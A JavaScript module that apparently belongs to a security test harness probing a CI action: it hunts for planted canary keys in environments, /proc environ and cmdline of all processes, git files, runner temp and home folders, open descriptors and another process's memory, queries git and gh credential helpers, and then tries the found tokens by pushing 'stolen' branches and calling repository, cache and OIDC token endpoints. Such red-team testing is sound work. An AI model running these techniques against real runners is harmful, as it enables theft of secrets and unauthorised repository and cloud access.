// Tricks that look for keys: in environments, command lines, files, git's helpers, memory; and try what they found.
import { existsSync, readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs'
import { tmpdir, userInfo } from 'node:os'
import { dirname, join } from 'node:path'

/** Keys as the stand-in makes them and as the test plants them; nobody else's have this shape. */
const SHAPES = /CANARY_[A-Z]+_[0-9a-f]{24}|gh[ps]_[0-9a-f]{36}|eyJ[\w-]+\.eyJ[\w-]+\.[0-9a-f-]{36}/g

/** The keys in a text, also where they stand in base64. */
export function keysIn(text) {
  const found = new Set(text.match(SHAPES) ?? [])
  for (const [word] of text.matchAll(/[A-Za-z0-9+/_-]{48,}={0,2}/g))
    for (const key of Buffer.from(word, 'base64').toString('latin1').match(SHAPES) ?? []) found.add(key)
  return found
}

const pids = () => readdirSync('/proc').filter((name) => /^\d+$/.test(name))

function textOf(file, limit = 2_000_000) {
  try {
    const found = statSync(file)
    // A pipe would be waited for, and a device has no end.
    return found.isFile() && found.size <= limit ? readFileSync(file, 'latin1') : ''
  } catch {
    return ''
  }
}

function procText(file) {
  try {
    return readFileSync(file, 'latin1')
  } catch {
    return ''
  }
}

function filesBelow(folder, limit = 5000) {
  const found = []
  const folders = [folder]
  for (let at = 0; at < folders.length && found.length < limit; at += 1) {
    let entries = []
    try {
      entries = readdirSync(folders[at], { withFileTypes: true })
    } catch {
      // not ours to read
    }
    for (const entry of entries) {
      const path = join(folders[at], entry.name)
      if (entry.isDirectory()) folders.push(path)
      else if (entry.isFile()) found.push(path)
    }
  }
  return found
}

/** The processes above this one, the nearest first. */
export function above() {
  const found = []
  for (let pid = String(process.ppid); Number(pid) > 1; ) {
    const status = procText(`/proc/${pid}/status`)
    if (status === '') break
    found.push(pid)
    pid = /^PPid:\s*(\d+)/m.exec(status)?.[1] ?? '0'
  }
  return found
}

/** The process of the action, from below it. */
export function actionPid() {
  return above().find((pid) => procText(`/proc/${pid}/cmdline`).includes('dist/action/main.js')) ?? null
}

/** The same, for somebody who needs it. Throws ESRCH as the system does: who has processes of its own sees no other. */
export function actionInSight() {
  const pid = actionPid()
  if (pid === null) throw Object.assign(new Error('the action was not found'), { code: 'ESRCH' })
  return pid
}

/** Homes that a session may find: its own, the account's, and that of the job, where the system shows it. */
export function homes() {
  const { username, homedir } = userInfo()
  const found = [process.env.HOME]
  // Of the tests' own user the home stays as it is.
  if (username.startsWith('ralph-')) found.push(homedir)
  const pid = actionPid()
  const environment = pid === null ? '' : procText(`/proc/${pid}/environ`)
  found.push(/(?:^|\0)HOME=([^\0]*)/.exec(environment)?.[1])
  return [...new Set(found.filter((one) => one !== undefined && existsSync(one)))]
}

/** Where the runner keeps its temporary files: beside the workspace on every runner there is. */
export const runnerTemp = (top) => join(dirname(dirname(top)), '_temp')

/** The server, as the clone's remote names it. */
function serverOf(top) {
  const url = /url = (https?:\/\/[^/\s]+)\/([^\s]+)/.exec(textOf(join(top, '.git', 'config')))
  return { server: url?.[1] ?? 'http://127.0.0.1:9', repository: (url?.[2] ?? 'a/b').replace(/\.git$/, '') }
}

export const looking = {
  'look.own': ({ search }) => search(Object.entries(process.env).join('\n'), 'environment'),
  'look.environ'({ search, note }) {
    let read = 0
    for (const pid of pids()) {
      const text = procText(`/proc/${pid}/environ`)
      if (text !== '') read += 1
      search(
        text,
        `environ of ${pid}, ${procText(`/proc/${pid}/cmdline`).replaceAll('\0', ' ').slice(0, 80)}`,
      )
    }
    note({ read })
  },
  'look.cmdline'({ search, note }) {
    for (const pid of pids()) search(procText(`/proc/${pid}/cmdline`), `cmdline of ${pid}`)
    note({ action: actionPid() !== null })
  },
  'look.git'({ search, top, note }) {
    const files = filesBelow(join(top, '.git'))
    for (const file of files) search(textOf(file), file)
    note({ read: files.length })
  },
  'look.temp'({ search, top, note }) {
    const files = filesBelow(runnerTemp(top))
    for (const file of files) search(textOf(file), file)
    note({ read: files.length })
  },
  'look.home'({ search }) {
    for (const home of homes()) for (const file of filesBelow(home)) search(textOf(file), file)
  },
  'look.tmp'({ search, plan }) {
    for (const entry of readdirSync(tmpdir(), { withFileTypes: true })) {
      const path = join(tmpdir(), entry.name)
      if (entry.isFile()) search(textOf(path), path)
      // Folders that programs made for themselves a moment ago; not what the test itself keeps.
      else if (
        entry.isDirectory() &&
        /^(ralph-usage|ralph-handed|node-|tmp)/.test(entry.name) &&
        path !== plan.evidence
      )
        for (const file of filesBelow(path, 500)) search(textOf(file), file)
    }
  },
  'look.tools'({ search }) {
    for (const file of filesBelow(process.env.RUNNER_TOOL_CACHE ?? '/nonexistent')) search(textOf(file), file)
  },
  'look.open'({ search }) {
    for (const pid of above()) {
      let names = []
      try {
        names = readdirSync(`/proc/${pid}/fd`)
      } catch {
        // another user's
      }
      for (const name of names) {
        const file = `/proc/${pid}/fd/${name}`
        try {
          if (readlinkSync(file).startsWith('/')) search(textOf(file), file)
        } catch {
          // closed meanwhile
        }
      }
      if (procText(`/proc/${pid}/cmdline`).includes('dist/action/main.js')) break
    }
  },
  'look.memory'({ search, note }) {
    const pid = actionInSight()
    note({ ptrace: textOf('/proc/sys/kernel/yama/ptrace_scope').trim() })
    readMemory(pid, search)
  },
  'look.helpers'({ search, run, top }) {
    const { server } = serverOf(top)
    const { protocol, host } = new URL(server)
    const input = `protocol=${protocol.slice(0, -1)}\nhost=${host}\n\n`
    search(
      run('git', ['credential', 'fill'], { input, env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } }).out,
      'git',
    )
    search(run('gh', ['auth', 'token']).out, 'gh')
    search(run('git', ['config', '--list', '--show-origin', '--includes']).out, 'git config')
  },
  'use.push'({ run, role }) {
    const env = { ...process.env, GIT_TERMINAL_PROMPT: '0' }
    run('git', ['push', 'origin', `HEAD:refs/heads/stolen-${role}`], { env })
  },
  async 'use.found'({ loot, run, top, role, note }) {
    const { server, repository } = serverOf(top)
    let number = 0
    for (const key of loot) {
      number += 1
      const url = server.replace('://', `://x-access-token:${key}@`)
      run('git', ['push', `${url}/${repository}`, `HEAD:refs/heads/stolen-${role}-${number}`])
      const headers = { authorization: `Bearer ${key}` }
      const answer = await fetch(`${server}/repos/${repository}`, { headers }).catch(() => null)
      note({ api: answer?.status ?? 0 })
    }
    note({ keys: number })
  },
  async 'use.api'({ top, note }) {
    const { server, repository } = serverOf(top)
    const answer = await fetch(`${server}/repos/${repository}`).catch(() => null)
    note({ api: answer?.status ?? 0 })
  },
  async 'use.services'({ top, note }) {
    const { server } = serverOf(top)
    const { ACTIONS_RUNTIME_URL: url = `${server}/_services/`, ACTIONS_RUNTIME_TOKEN: token } = process.env
    const headers = token === undefined ? {} : { authorization: `Bearer ${token}` }
    const answer = await fetch(`${url}_apis/artifactcache/cache?keys=a&version=b`, { headers }).catch(
      () => null,
    )
    note({ api: answer?.status ?? 0, token: token !== undefined })
  },
  /** The job has `id-token: write`: who asks as the job gets a key of its cloud. */
  async 'use.identity'({ plan, loot, note }) {
    const { ACTIONS_ID_TOKEN_REQUEST_URL: url = plan.identity, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } =
      process.env
    for (const key of ['', ...loot, ...(token === undefined ? [] : [token])]) {
      const headers = { authorization: `Bearer ${key}` }
      const answer = await fetch(`${url}&audience=stolen`, { headers }).catch(() => null)
      note({ api: answer?.status ?? 0 })
    }
  },
}

/** Reads what another process has written to, in portions; throws where the system does not let it. */
function readMemory(pid, search) {
  const { openSync, readSync, closeSync } = process.getBuiltinModule('node:fs')
  const maps = readFileSync(`/proc/${pid}/maps`, 'utf8')
  const memory = openSync(`/proc/${pid}/mem`, 'r')
  const portion = Buffer.alloc(4 * 1024 * 1024)
  let left = 400_000_000
  try {
    for (const line of maps.split('\n')) {
      const area = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line)
      if (area === null) continue
      const end = Number.parseInt(area[2], 16)
      for (let at = Number.parseInt(area[1], 16); at < end && left > 0; ) {
        let got = 0
        try {
          got = readSync(memory, portion, 0, Math.min(portion.length, end - at), at)
        } catch {
          break
        }
        if (got === 0) break
        left -= got
        // What is done with such a key is no other trick: whether it can be had depends on the machine.
        search(portion.latin1Slice(0, got), 'memory', false)
        // A key may lie across two portions.
        at += got === portion.length ? got - 128 : got
      }
    }
  } finally {
    closeSync(memory)
  }
}
